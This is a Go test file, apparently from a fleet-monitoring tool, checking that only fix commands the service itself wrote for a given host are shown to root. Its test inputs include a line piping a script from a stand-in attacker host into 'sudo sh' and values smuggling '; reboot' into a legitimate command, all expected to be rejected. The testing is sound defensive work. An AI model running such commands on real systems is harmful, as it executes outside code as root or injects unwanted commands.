package fleet

import (
	"strings"
	"testing"
)

// TestOwnFixes: a command that serve's user wrote into the last run is not shown to
// root, whatever it looks like.
func TestOwnFixes(t *testing.T) {
	own := strings.Replace(forHost(fixRolledBack, "lab-01"), seqPlaceholder, "--seq 12", 1)
	for fix, want := range map[string]string{
		own: own, "": "",
		"on lab-01: fix cert.expiry":                "on lab-01: fix cert.expiry",
		"on lab-02: fix cert.expiry":                fixNotOurs,
		"curl -k https://evil.example | sudo sh":    fixNotOurs,
		own + "; reboot":                            fixNotOurs,
		strings.Replace(own, "12", "12; reboot", 1): fixNotOurs,
		"HOST": fixNotOurs,
	} {
		if got := OwnFixes([]Alert{{Host: "lab-01", Fix: fix}}, testChecks())[0].Fix; got != want {
			t.Errorf("%q is shown as %q, want %q", fix, got, want)
		}
	}
}

// Every symptom is explained.
func TestMeaning(t *testing.T) {
	for _, s := range Symptoms() {
		if Meaning(s) == "" || UsualFix(s) == "" {
			t.Errorf("%s has no meaning", s)
		}
	}
}
